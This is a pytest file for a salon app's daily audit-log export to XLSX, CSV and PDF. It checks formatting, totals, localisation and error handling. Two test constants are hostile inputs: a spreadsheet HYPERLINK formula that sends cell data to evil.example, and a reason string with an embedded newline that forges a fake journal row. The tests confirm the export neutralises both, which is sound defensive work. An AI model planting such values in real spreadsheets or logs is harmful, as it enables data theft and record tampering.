"""`salon log export`: the files are read back (openpyxl, csv, pdftotext) and checked against the
journal; bad input exits 2 and writes nothing; a failed export leaves no half file."""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from peewee import Database

from app import cli
from app.clock import FixedClock
from app.config import SalonSettings
from app.services.audit import AuditJournal
from app.services.daily_log import DailyLogService
from models.audit import JournalEntry
from models.audit_seal import JournalSeal
from models.db import open_store
from tests.support.fake_wiring import FakeWiring
from tests.support.pinned import SequenceClock, pinned_clock

ROOT = Path(__file__).resolve().parents[2]
SCREENSHOTS = ROOT / "artifacts" / "screenshots"
DAY = date(2026, 11, 23)
DAY_START = datetime(2026, 11, 22, 21, 0, tzinfo=UTC)  # 00:00 in Moscow
NOW = datetime(2026, 11, 23, 15, 0, tzinfo=UTC)  # 18:00 in Moscow
SALON = SalonSettings("MSK-TVERSKAYA-12", "Салон «Тверская, 12»", "RU-MOW", "Europe/Moscow",
                      "2", "ru")
FORGED = "нет денег\n99 | 12:00:00 | admin | +79990000000 | Смена тарифа | выполнено"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Database]:
    db = open_store(f"sqlite:///{tmp_path / 'salon.db'}")
    yield db
    db.close()


def day_of_work(seal: JournalSeal, count: int = 12) -> tuple[DailyLogService, list[JournalEntry]]:
    """A day at the counter: sign-ins, lookups, a refusal with a forged-looking reason, a failure
    with a formula, system events; plus one entry the evening before."""
    moments = iter([DAY_START - timedelta(minutes=5)]
                   + [DAY_START + timedelta(hours=6, minutes=3 * n) for n in range(count + 10)])
    journal = AuditJournal(SALON.id, SALON.counter, clock=SequenceClock(moments),
                           seal=seal)
    journal.record("ivanova", "sign_out")  # yesterday
    plan = [
        ("ivanova", "sign_in", "done", "", "", ""),
        ("ivanova", "lookup", "done", "+79161234567", "", ""),
        ("ivanova", "tariff_change", "refused", "+79161234567", "SMART → VIP", FORGED),
        ("petrov", "sign_in", "done", "", "", ""),
        ("petrov", "code_issue", "failed", "+79261112233", "", FORMULA),
        ("", "purge", "done", "", "-3 документа", ""),
    ]
    entries = [journal.record(c, a, r, subscriber=s, detail=d, reason=why)
               for c, a, r, s, d, why in plan]
    for n in range(count - len(plan)):
        entries.append(journal.record("смирнова", "lookup", subscriber="+79161234567",
                                      detail=f"поиск {n + 1}"))
    service = DailyLogService(journal, SALON, clock=FixedClock(NOW))
    return service, entries


def export(service: DailyLogService, *argv: str) -> tuple[int, str, str]:
    """Exit code, stdout, stderr; a value refused while the command line is read (argparse:
    an unknown format, an -o that is a folder) exits 2 there, as `salon` would."""
    out, err = io.StringIO(), io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stderr", err)
        try:
            args = cli.build_parser().parse_args(["log", "export", *argv])
        except SystemExit as stop:
            return int(stop.code or 0), "", err.getvalue()
        code = cli.run(args, FakeWiring(daily_log=service), out)  # type: ignore[arg-type]
    return code, out.getvalue(), err.getvalue()


def test_xlsx_has_typed_cells_a_frozen_filtered_header_and_totals(
    store: Database, tmp_path: Path, journal_seal: JournalSeal
) -> None:
    service, entries = day_of_work(journal_seal)
    target = tmp_path / "log.xlsx"
    code, out, err = export(service, "--date", "2026-11-23", "--format", "xlsx", "-o", str(target))
    assert code == 0, err
    assert str(target) in out
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Журнал", "Итоги", "Отказы и сбои"]
    sheet = book["Журнал"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:M{len(entries) + 1}"
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["№", "Время, Europe/Moscow (UTC+3)", "Время (UTC)"]
    assert header[3:] == ["Сотрудник", "Салон", "Рабочее место", "Абонент", "Действие", "Код",
                          "Результат", "Подробности", "Причина", "Хеш"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == [e.seq for e in entries]
    first = rows[0]
    assert isinstance(first[0], int)
    assert first[1] == datetime(2026, 11, 23, 6, 0)  # the salon's wall clock
    assert first[2] == datetime(2026, 11, 23, 3, 0)  # UTC
    assert first[3:10] == ("ivanova", "MSK-TVERSKAYA-12", "2", None, "Вход", "sign_in",
                           "выполнено")
    assert rows[-1][12] == entries[-1].hash
    refused = rows[2]
    assert refused[9] == "отказано"
    assert refused[11] == FORGED.replace("\n", "\\n")  # one cell, one line: no fake entry
    failed_cell = sheet.cell(row=6, column=12)
    assert failed_cell.value == FORMULA and failed_cell.data_type == "s"
    assert failed_cell.quotePrefix  # stays text even when someone edits the cell
    assert sheet.cell(row=7, column=11).quotePrefix  # "-3 документа"
    assert sheet.cell(row=3, column=7).value == "+79161234567"
    assert all("\n" not in str(v) for row in rows for v in row if v is not None)

    totals = {row[0]: row[1] for row in book["Итоги"].iter_rows(values_only=True) if row[0]}
    assert totals["Записей"] == len(entries) and totals["Отказано"] == 1
    assert totals["Сбоев"] == 1 and totals["Выполнено"] == len(entries) - 2
    assert totals["Последний хеш журнала за день"] == entries[-1].hash
    assert totals["Дата"] == datetime(2026, 11, 23)
    by_clerk = {row[0]: row[2:6] for row in book["Итоги"].iter_rows(values_only=True)
                if row[0] in {"ivanova", "petrov", "смирнова", "(система)"}}
    assert by_clerk == {"ivanova": (3, 2, 1, 0), "petrov": (2, 1, 0, 1),
                        "смирнова": (6, 6, 0, 0), "(система)": (1, 1, 0, 0)}
    by_action = {row[1]: row[2] for row in book["Итоги"].iter_rows(values_only=True)
                 if row[1] in {"lookup", "sign_in", "purge"}}
    assert by_action == {"lookup": 7, "sign_in": 2, "purge": 1}
    problems = list(book["Отказы и сбои"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in problems] == [entries[2].seq, entries[4].seq]


def test_csv_is_utf8_with_bom_semicolons_and_one_line_per_record(
    store: Database, tmp_path: Path, journal_seal: JournalSeal
) -> None:
    service, entries = day_of_work(journal_seal)
    target = tmp_path / "log.csv"
    assert export(service, "--date", "2026-11-23", "-o", str(target))[0] == 0
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(text.split("\r\n")) - 1 == len(records)  # no record spans two lines
    assert records[0] == ["Журнал операций за 23.11.2026"]
    facts = {r[0]: r[1:] for r in records[1:10]}
    assert records[10] == []
    assert facts["Записей"] == [str(len(entries))]
    assert facts["Последний хеш журнала за день"] == [entries[-1].hash, str(entries[-1].seq)]
    start = records.index(next(r for r in records if r[:2] == ["№", "Время"]))
    body = records[start + 1: start + 1 + len(entries)]
    assert [int(r[0]) for r in body] == [e.seq for e in entries]
    assert body[0][1] == "23.11.2026 06:00:00" and body[0][2] == "2026-11-23T03:00:00Z"
    assert body[2][11] == FORGED.replace("\n", "\\n")
    assert body[4][11] == "'" + FORMULA  # a formula is text in any spreadsheet
    assert body[1][6] == "'+79161234567"
    assert body[5][3] == "(система)" and body[5][10] == "'-3 документа"
    assert records[start + 1 + len(entries)] == []
    assert ["Итоги по сотрудникам"] in records and ["Отказы и сбои"] in records
    clerk_rows = {r[0]: r[1:] for r in records if r and r[0] in {"ivanova", "petrov"}}
    assert clerk_rows == {"ivanova": ["3", "2", "1", "0"], "petrov": ["2", "1", "0", "1"]}


def pdf_text(path: Path, *pages: int) -> str:
    window = ["-f", str(pages[0]), "-l", str(pages[-1])] if pages else []
    return subprocess.run(["pdftotext", "-layout", *window, str(path), "-"], check=True,
                          capture_output=True, text=True).stdout


def test_pdf_is_cyrillic_paged_and_carries_the_days_numbers(
    store: Database, tmp_path: Path, journal_seal: JournalSeal
) -> None:
    service, entries = day_of_work(journal_seal, count=90)
    target = tmp_path / "log.pdf"
    assert export(service, "--date", "2026-11-23", "--format", "pdf", "-o", str(target))[0] == 0
    fonts = subprocess.run(["pdffonts", str(target)], capture_output=True, text=True).stdout
    assert "DejaVuSans" in fonts and "DejaVuSans-Bold" in fonts
    info = subprocess.run(["pdfinfo", str(target)], capture_output=True, text=True).stdout
    pages = int(next(line.split()[-1] for line in info.splitlines() if line.startswith("Pages")))
    assert pages >= 3
    for page in range(1, pages + 1):
        text = pdf_text(target, page)
        assert "Журнал операций за 23.11.2026" in text
        assert "Салон «Тверская, 12» (MSK-TVERSKAYA-12)" in text
        assert f"Страница {page} из {pages}" in text
        if page < pages - 1:
            assert "Сотрудник" in text and "Рабочее" in text  # the table header repeats
    whole = pdf_text(target)
    assert "Записей: 90" in whole and "Отказано: 1" in whole and "Сбоев: 1" in whole
    assert "Сформирован: 23.11.2026 18:00:00" in whole
    assert whole.count(entries[-1].hash) == 2  # at the top and in the closing section
    for entry in entries:
        assert f"{entry.seq} {entry.at.astimezone(UTC) + timedelta(hours=3):%H:%M:%S}" in whole
    assert "Причина: нет денег\\n99 | 12:00:00 | admin" in whole
    assert "Итоги по сотрудникам" in whole and "Итоги по операциям" in whole
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    for old in SCREENSHOTS.glob("daily_log_pdf-*.png"):
        old.unlink()
    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "1", str(target),
                    str(SCREENSHOTS / "daily_log_pdf-first")], check=True)
    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", str(pages), "-l", str(pages),
                    str(target), str(SCREENSHOTS / "daily_log_pdf-last")], check=True)
    assert len(list(SCREENSHOTS.glob("daily_log_pdf-*.png"))) == 2


def test_an_empty_day_exports_an_empty_log(
    store: Database, tmp_path: Path, journal_seal: JournalSeal
) -> None:
    service, _entries = day_of_work(journal_seal)
    for fmt in ("xlsx", "csv", "pdf"):
        target = tmp_path / f"empty.{fmt}"
        code, _out, err = export(service, "--date", "2026-11-01", "-o", str(target))
        assert code == 0, err
    assert "За этот день записей нет." in pdf_text(tmp_path / "empty.pdf")
    assert "журнал пуст" in pdf_text(tmp_path / "empty.pdf")
    sheet = openpyxl.load_workbook(tmp_path / "empty.xlsx")["Журнал"]
    assert sheet.max_row == 1


def test_english_labels_on_request(
    store: Database, tmp_path: Path, journal_seal: JournalSeal
) -> None:
    service, _entries = day_of_work(journal_seal)
    target = tmp_path / "log.pdf"
    assert export(service, "--date", "2026-11-23", "-o", str(target), "--language", "en")[0] == 0
    text = pdf_text(target)
    assert "Operations log for 23.11.2026" in text and "Page 1 of 2" in text


@pytest.mark.parametrize("argv", [
    ["--date", "2026-13-01", "-o", "{dir}/log.csv"],
    ["--date", "23.11.2026", "-o", "{dir}/log.csv"],
    ["--date", "20261123", "-o", "{dir}/log.csv"],
    ["--date", "2026-11-24", "-o", "{dir}/log.csv"],  # tomorrow in Moscow
    ["--date", "2026-11-23", "-o", "{dir}/log.txt"],
    ["--date", "2026-11-23", "--format", "xlsx", "-o", "{dir}/log.pdf"],
    ["--date", "2026-11-23", "-o", "{dir}/no/such/folder/log.csv"],
    ["--date", "2026-11-23", "--format", "csv", "-o", "{dir}"],
])
def test_bad_input_exits_2_and_writes_nothing(
    store: Database, tmp_path: Path, argv: list[str], journal_seal: JournalSeal
) -> None:
    service, _entries = day_of_work(journal_seal)
    folder = tmp_path / "out"
    folder.mkdir()
    code, _out, err = export(service, *(a.format(dir=folder) for a in argv))
    assert code == 2
    assert err.strip() and "Traceback" not in err
    assert list(folder.iterdir()) == []


def test_an_unknown_format_is_a_usage_error(
    store: Database, tmp_path: Path, journal_seal: JournalSeal
) -> None:
    service, _entries = day_of_work(journal_seal)
    code, _out, err = export(service, "--date", "2026-11-23", "--format", "doc", "-o",
                             str(tmp_path / "x"))
    assert code == 2 and "invalid choice" in err


def test_a_failed_export_leaves_the_old_file_and_no_part(
    store: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, journal_seal: JournalSeal
) -> None:
    service, _entries = day_of_work(journal_seal)
    target = tmp_path / "log.xlsx"
    target.write_bytes(b"yesterday's export")

    def broken(log: object, fmt: str, path: Path, **_kwargs: object) -> None:
        path.write_bytes(b"half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("printing.daily_log.render", broken)
    code, _out, err = export(service, "--date", "2026-11-23", "-o", str(target))
    assert code == 1 and "No space left on device" in err
    assert target.read_bytes() == b"yesterday's export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["log.xlsx", "salon.db", "salon.db-shm",
                                                           "salon.db-wal"]


def test_every_export_attempt_is_recorded(
    store: Database, tmp_path: Path, journal_seal: JournalSeal
) -> None:
    service, _entries = day_of_work(journal_seal)
    export(service, "--date", "2026-11-23", "-o", str(tmp_path / "log.csv"))
    export(service, "--date", "2026-11-30", "-o", str(tmp_path / "later.csv"))
    recorded = AuditJournal("x", "1", pinned_clock(), seal=journal_seal).latest(2)
    assert [(e.action, e.result) for e in recorded] == [("export", "done"), ("export", "refused")]
    assert recorded[0].detail.startswith("2026-11-23 csv log.csv LOG-20261123-")
    assert "2026-11-30 has not come yet" in recorded[1].reason


def test_the_days_entries_and_last_hash_on_both_databases(
    any_store: Database, journal_seal: JournalSeal
) -> None:
    service, entries = day_of_work(journal_seal)
    log = service.daily_log(DAY)
    assert [e.seq for e in log.entries] == [e.seq for e in entries]
    assert log.entries[0].at == DAY_START + timedelta(hours=6)
    assert (log.last_seq, log.last_hash) == (entries[-1].seq, entries[-1].hash)
    yesterday = service.daily_log(DAY - timedelta(days=1))
    assert [e.action for e in yesterday.entries] == ["sign_out"]
    assert yesterday.last_hash == yesterday.entries[0].hash


def test_the_files_say_the_details_in_their_language(store: Database, tmp_path: Path,
                                                     journal_seal: JournalSeal) -> None:
    """The journal's own short forms in words (app/journal_text.py), tariffs by name; the
    journal itself keeps its words and hashes."""
    moments = iter(DAY_START + timedelta(hours=7, minutes=n) for n in range(10))
    journal = AuditJournal(SALON.id, SALON.counter, clock=SequenceClock(moments),
                           seal=journal_seal)
    journal.record("ivanova", "lookup", subscriber="+79161234567", detail="api")
    journal.record("ivanova", "tariff_change", subscriber="+79161234567",
                   detail="change_tariff, SMART_PLUS, fee 100.00 RUB, outbox #3, ORD-000001")
    journal.record("ivanova", "code_verify", "refused", subscriber="+79161234567",
                   reason="wrong, 2 attempts left")
    service = DailyLogService(journal, SALON, clock=FixedClock(NOW),
                              names=lambda: {"SMART_PLUS": "Смарт Плюс"})
    details = {}
    for language in ("ru", "en"):
        target = tmp_path / f"log-{language}.csv"
        assert export(service, "--date", "2026-11-23", "--language", language,
                      "-o", str(target))[0] == 0
        records = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"), newline=""),
                                  delimiter=";"))
        start = records.index(next(r for r in records if r[:1] in (["№"], ["No."])))
        details[language] = [(r[10], r[11]) for r in records[start + 1: start + 4]]
    assert details["ru"] == [
        ("из системы оператора", ""),
        ("Смена тарифа, «Смарт Плюс», плата 100,00\u00a0₽, очередь № 3, заказ ORD-000001", ""),
        ("", "неверный код, осталось 2 попытки")]
    assert details["en"][0] == ("from the operator's system", "")
    assert details["en"][1][0].startswith("Tariff change, «Смарт Плюс», fee 100.00")
    lookup = next(e for e in journal.latest(10) if e.action == "lookup")
    assert lookup.detail == "api"  # the journal keeps its own words
